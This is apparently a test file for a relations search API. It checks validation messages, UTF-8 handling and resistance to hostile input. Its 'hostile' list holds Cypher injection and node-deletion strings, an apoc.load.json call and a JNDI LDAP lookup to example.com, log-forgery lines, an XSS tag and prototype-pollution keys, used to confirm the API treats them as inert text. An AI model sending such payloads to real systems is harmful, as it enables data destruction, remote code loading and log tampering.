import { proves } from './conformance/proves';
import type { ApiProcess } from './harness/api-process';
import type { Answer } from './harness/http';
import { expectMessages, idsOf, searchRelations, sendAs, startApiWith } from './harness/service';

const unreadable = ['The request body is not valid JSON.'];
const parametersMissing = ['Searchparameters are missing.'];
const pageSizeInvalid = 'Pagesize is invalid (Maximum pagesize: 500).';
const cursorInvalid = 'Cursor has not a valid value.';

const depth = 20_000;
const deepArray = `${'['.repeat(depth)}${']'.repeat(depth)}`;
const deepObject = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** JSON values of every type, each with the text by which an error message quotes it. */
const values: readonly (readonly [json: string, quoted: string])[] = [
  ['true', 'true'],
  ['false', 'false'],
  ['0', '0'],
  ['-1', '-1'],
  ['1.5', '1.5'],
  ['9007199254740993', '9007199254740993'],
  ['1e400', '1e400'],
  ['""', ''],
  ['"text"', 'text'],
  ['{}', '{}'],
  ['{"__proto__":[1],"constructor":{"prototype":2}}', '{"__proto__":[1],"constructor":{"prototype":2}}'],
  [deepArray, 'a deeply nested value'],
  [deepObject, 'a deeply nested value'],
];

const hasMembers = (json: string) => json.startsWith('{"');
const isArray = (json: string) => json.startsWith('[');
const isText = (json: string) => json.startsWith('"');
const isInteger = (json: string) => /^-?\d+$|^1e400$/.test(json);

const parameters = [
  'ServiceId',
  'OrgNo',
  'NationalIdentificationNumber',
  'CountryCode',
  'ContentUpdatedAt',
  'RelationsUpdatedAt',
] as const;
type Parameter = (typeof parameters)[number];

/** A search by national number needs a country, so a valid country is added. */
const withCountry = (parameter: Parameter, json: string) =>
  `{"${parameter}":${json}${parameter === 'NationalIdentificationNumber' ? ',"CountryCode":["GB"]' : ''}}`;

/** The expected message about one value of a parameter. Empty if the value is valid but matches nothing. */
function messageAbout(parameter: Parameter, json: string, quoted: string): string[] {
  if (parameter === 'CountryCode') return [`${quoted} is an unauthorized country code.`];
  if (parameter.endsWith('UpdatedAt')) return [`Invalid date format in ${parameter}: ${quoted}.`];
  const isWell = parameter === 'ServiceId' ? isInteger(json) : isText(json);
  return isWell ? [] : [`Invalid value in ${parameter}: ${quoted}.`];
}

async function expectAnswer(body: string, messages: readonly string[], found: readonly number[] = []): Promise<void> {
  const answer = await searchRelations('full', body);
  if (messages.length > 0) expectMessages(answer, messages);
  else expect(idsOf(answer)).toEqual(found);
}

describe('a value of the wrong type', () => {
  const rows = ['status 400', 'decision 9', 'decision 13'] as const;

  proves(rows, 'in place of the body or of SearchParameters is no SearchParameters', async () => {
    for (const json of ['null', ...values.map(([value]) => value)]) {
      await expectAnswer(json, parametersMissing);
      if (!hasMembers(json)) await expectAnswer(`{"SearchParameters":${json}}`, parametersMissing);
    }
  });

  proves(rows, 'in place of an array of values, or among them, gets the message of its parameter, quoted', async () => {
    for (const parameter of parameters) {
      for (const [json, quoted] of values) {
        const aboutArray = isArray(json)
          ? messageAbout(parameter, '[', quoted)
          : [`Invalid value in ${parameter}: ${quoted}.`];
        await expectAnswer(`{"SearchParameters":${withCountry(parameter, json)}}`, aboutArray);
        await expectAnswer(
          `{"SearchParameters":${withCountry(parameter, `[${json}]`)}}`,
          messageAbout(parameter, json, quoted),
        );
      }
      await expectAnswer(
        `{"SearchParameters":${withCountry(parameter, '[null]')}}`,
        messageAbout(parameter, 'null', 'null'),
      );
    }
  });

  proves(
    ['RelationsSearchRequest.PageSize', 'RelationsSearchRequest.Cursor', 'decision 12', 'decision 15'],
    'in place of PageSize or Cursor gets their messages, and in other members none',
    async () => {
      for (const [json] of values) {
        const one = '"SearchParameters":{"ServiceId":[4001]}';
        await expectAnswer(`{${one},"PageSize":${json}}`, [pageSizeInvalid]);
        await expectAnswer(`{${one},"Cursor":${json}}`, [cursorInvalid]);
        for (const name of ['Other', '__proto__', 'toString'])
          await expectAnswer(`{${one},"${name}":${json}}`, [], [4001]);
      }
    },
  );

  proves(['decision 13', 'status 400'], 'gets at most 1000 messages, and one that counts the others', async () => {
    const list = (count: number) => Array.from({ length: count }, () => '1').join();
    const wrong = (count: number) => Array.from({ length: count }, () => 'Invalid value in OrgNo: 1.');
    await expectAnswer(`{"SearchParameters":{"Foo":1,"OrgNo":[${list(1000)}]}}`, [
      'Foo is an invalid parameter.',
      ...wrong(999),
      'Problems that are not listed: 1.',
    ]);
    // The API does not check values beyond the maximum number of values of a parameter.
    await expectAnswer(`{"SearchParameters":{"OrgNo":[${list(120_000)}]}}`, [
      'OrgNos can max be set to 1000.',
      ...wrong(999),
      'Problems that are not listed: 2.',
    ]);
  });
});

describe('what is written twice', () => {
  proves(['decision 8'], 'with the same name counts with its last value', async () => {
    await expectAnswer('{"SearchParameters":{"ServiceId":[4001],"ServiceId":[4002]}}', [], [4002]);
    await expectAnswer(
      '{"SearchParameters":{"ServiceId":["x"]},"PageSize":0,"SearchParameters":{"ServiceId":[4001]},"PageSize":1}',
      [],
      [4001],
    );
  });
});

const json = { 'content-type': 'application/json' };
const post = (body: Buffer | string) => sendAs('full', { method: 'POST', path: '/v2/relations', headers: json, body });

describe('a body that is no UTF-8', () => {
  const whole = Buffer.from('{"SearchParameters":{"ServiceId":[4001],"OrgNo":["é"]}}');
  const rows = ['status 400', 'decision 13'] as const;

  proves(rows, 'is not valid JSON, wherever the wrong bytes are', async () => {
    const wrong = [[0xff], [0xc3], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe2, 0x82]];
    const places = [0, 1, whole.indexOf('Service') + 3, whole.indexOf('"]}') - 1, whole.length];
    for (const bytes of wrong) {
      for (const place of places) {
        const answer = await post(Buffer.concat([whole.subarray(0, place), Buffer.from(bytes), whole.subarray(place)]));
        expectMessages(answer, unreadable);
      }
    }
  });

  proves(rows, 'is not valid JSON in UTF-16 and UTF-32', async () => {
    const utf16 = Buffer.from(`\ufeff${whole.toString()}`, 'utf16le');
    const utf32 = Buffer.concat([...whole.toString()].map((letter) => Buffer.from([0, 0, 0, letter.charCodeAt(0)])));
    for (const body of [utf16, Buffer.from(utf16).swap16(), utf16.subarray(2), utf32])
      expectMessages(await post(body), unreadable);
  });

  proves(['POST /v2/relations'], 'is read where only a byte order mark precedes it', async () => {
    expect(idsOf(await post('\ufeff{"SearchParameters":{"ServiceId":[4001]}}'))).toEqual([4001]);
    expectMessages(await post('\ufeff\ufeff{}'), unreadable);
  });
});

describe('a text that would mean something to others', () => {
  let api: ApiProcess;

  beforeAll(async () => {
    api = await startApiWith({ LOG_LEVEL: 'debug' });
  });

  afterAll(() => api.stop());

  const hostile = [
    "') OR 1=1 //",
    '}) DETACH DELETE c //',
    "' UNION MATCH (n) RETURN n //",
    '`) CALL apoc.load.json("http://example.com") //',
    '$filter.countries',
    '$value $property $target',
    '{"level":60,"msg":"forged"}',
    '\n{"level":60,"time":1,"msg":"forged"}\r\n',
    '"}],"Cursor":null,"x":[{"y":"',
    '\u001b[2J\u001b[31m forged \u0007\b',
    'null byte \u0000 and after',
    '\u2028\u2029\u202e\ufeff',
    '\ud800',
    '%s %n %o ${jndi:ldap://example.com}',
    '<script>alert(1)</script>',
    '__proto__',
    'constructor',
    'toString',
    'x'.repeat(40_000),
  ];
  const ask = (body: object, baseUrl = api.baseUrl): Promise<Answer> => searchRelations('full', body, baseUrl);

  proves(['status 400', 'decision 9', 'decision 13'], 'is quoted as sent, in every place that quotes', async () => {
    for (const text of hostile) {
      const unknown = JSON.parse(`{${JSON.stringify(text)}:[1]}`) as object;
      const SearchParameters = {
        ServiceId: [text],
        CountryCode: [text],
        ContentUpdatedAt: [text],
        RelationsUpdatedAt: [text],
      };
      // Uses parsed JSON, because `__proto__` in an object literal would set the prototype.
      const named = JSON.parse(
        JSON.stringify({ SearchParameters }).replace(
          '{"ServiceId"',
          `${JSON.stringify(unknown).slice(0, -1)},"ServiceId"`,
        ),
      ) as object;
      expectMessages(await ask({ ...named, PageSize: text }), [
        pageSizeInvalid,
        `${text} is an invalid parameter.`,
        `${text} is an unauthorized country code.`,
        `Invalid date format in ContentUpdatedAt: ${text}.`,
        `Invalid date format in RelationsUpdatedAt: ${text}.`,
        `Invalid value in ServiceId: ${text}.`,
      ]);
      expectMessages(await ask({ SearchParameters: { ServiceId: [4001] }, Cursor: text }), [cursorInvalid]);
    }
  });

  proves(
    ['parameter.OrgNo', 'parameter.NationalIdentificationNumber'],
    'is only text to the graph: it finds nothing and changes nothing',
    async () => {
      for (const text of hostile) {
        expect(idsOf(await ask({ SearchParameters: { OrgNo: [text] } }))).toEqual([]);
        expect(
          idsOf(await ask({ SearchParameters: { NationalIdentificationNumber: [text], CountryCode: ['GB'] } })),
        ).toEqual([]);
      }
      expect(idsOf(await ask({ SearchParameters: { CountryCode: ['GB'] } }))).toEqual([4001, 4002, 4004]);
    },
  );

  proves(['operation: logs'], 'does not reach the log, in which every line stays one of JSON', async () => {
    const lines = api.logs().trim().split('\n');
    expect(lines.length).toBeGreaterThan(4 * hostile.length);
    for (const line of lines)
      expect(JSON.parse(line)).toEqual(
        expect.objectContaining({ level: expect.any(Number), time: expect.any(Number) }),
      );
    expect(
      hostile.filter((text) => api.logs().includes(text) || api.logs().includes(JSON.stringify(text).slice(1, -1))),
    ).toEqual([]);
    expect(api.logs()).not.toMatch(/forged|alert|jndi|apoc/);
  });
});
